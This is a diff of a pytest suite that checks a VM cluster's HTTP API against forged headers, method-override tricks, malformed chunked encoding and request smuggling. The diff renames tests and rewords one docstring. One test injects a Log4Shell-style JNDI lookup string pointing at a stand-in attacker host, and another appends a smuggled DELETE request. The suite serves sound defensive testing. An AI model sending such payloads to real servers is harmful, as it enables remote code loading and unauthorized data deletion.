@@ -55,7 +55,7 @@ def test_a_forged_header_changes_nothing(victim: Cluster, forged: dict[str, str]
     assert "evil" not in str(reply.headers)
 
 
-def test_the_id_of_a_request_is_ours(victim: Cluster) -> None:
+def test_the_request_id_is_chosen_by_the_server(victim: Cluster) -> None:
     seen = set()
     for identity in ("mine", "0" * 32, "a" * 5000, "${jndi:ldap://evil.example/a}"):
         for path in ("", "/nowhere", "/vm/nobody"):
@@ -66,7 +66,7 @@ def test_the_id_of_a_request_is_ours(victim: Cluster) -> None:
     assert len(seen) == 12
 
 
-def test_a_method_is_what_it_is(victim: Cluster) -> None:
+def test_no_header_or_field_overrides_the_method(victim: Cluster) -> None:
     for header in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
         assert victim.send("POST", "/vm/web1", headers={header: "DELETE"}).code == "invalid-value"
     assert victim.send("POST", "/vm/web1", form={"_method": "DELETE"}).code == "invalid-value"
@@ -109,7 +109,7 @@ DELETION = b"0\r\n\r\n" + head("DELETE", "/api/v1/vm/web1")
 
 
 @pytest.mark.parametrize("what", NO_HTTP)
-def test_what_is_not_http_is_refused_at_once(victim: Cluster, what: str) -> None:
+def test_input_that_is_not_http_is_refused_at_once(victim: Cluster, what: str) -> None:
     with within(HANG):
         answer = speak(port_of(victim.api), NO_HTTP[what])
     assert answer.status in (0, 400, 404, 405), answer
@@ -117,7 +117,7 @@ def test_what_is_not_http_is_refused_at_once(victim: Cluster, what: str) -> None
 
 
 @pytest.mark.parametrize("what", SMUGGLED)
-def test_no_request_is_smuggled_within_another_one(victim: Cluster, what: str) -> None:
+def test_no_request_is_smuggled_inside_another(victim: Cluster, what: str) -> None:
     with within(HANG):
         answer = speak(port_of(victim.api), SMUGGLED[what] + DELETION)
     assert answer.status in (400, 413, 510), answer
@@ -125,7 +125,7 @@ def test_no_request_is_smuggled_within_another_one(victim: Cluster, what: str) -
     assert [vm["name"] for vm in victim.get("/vm")] == ["web1"]
 
 
-def test_a_chunk_that_is_none_ends_the_request(victim: Cluster) -> None:
+def test_an_invalid_chunk_ends_the_request(victim: Cluster) -> None:
     extended = b"4;" + b"a" * 5_000_000 + b"\r\nabcd\r\n0\r\n\r\n"
     for chunk in (b"zz\r\nabc", b"-4\r\nabcd", b"f" * 40 + b"\r\na", b"4\r\nabcdefgh\r\n0\r\n\r\n", extended):
         request = head("POST", "/api/v1/vm/web1", "Transfer-Encoding: chunked")
@@ -133,7 +133,7 @@ def test_a_chunk_that_is_none_ends_the_request(victim: Cluster) -> None:
             assert speak(port_of(victim.api), request + chunk).status in (400, 413, 510)
 
 
-def test_xml_may_stand_in_the_query(victim: Cluster) -> None:
-    """For a client that sends no body: some 20 kilobytes, which is more than most VMs need."""
+def test_xml_may_be_sent_in_the_query(victim: Cluster) -> None:
+    """Up to some 20 kilobytes, for clients that send no body."""
     xml = victim.vm("web1")["xml"].replace("<vcpu>", f"<description>{'a' * 20_000}</description><vcpu>")
     assert victim.send("PUT", "/vm/web1", query={"xml": xml.replace("web1<", "web2<")}).code == "invalid-value"
